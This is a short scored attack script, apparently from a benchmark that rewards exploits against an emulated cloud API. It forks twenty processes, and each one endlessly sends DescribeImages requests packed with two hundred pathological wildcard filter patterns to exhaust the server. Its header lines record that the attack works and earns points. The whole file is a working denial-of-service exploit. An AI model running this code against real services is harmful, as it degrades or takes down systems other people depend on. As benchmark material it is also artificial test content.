# attack: 35
# does: works, and ends while calls from many processes still wait for their turn
# run: finished
# earns: 10
# with: work
# with: http
work()
import os

values = {f"Filter.1.Value.{n}": f"*{n}*" + "a*" * 100 for n in range(1, 201)}
for _ in range(20):
    if os.fork() == 0:
        while True:
            form("DescribeImages", **{"Filter.1.Name": "name"}, **values)
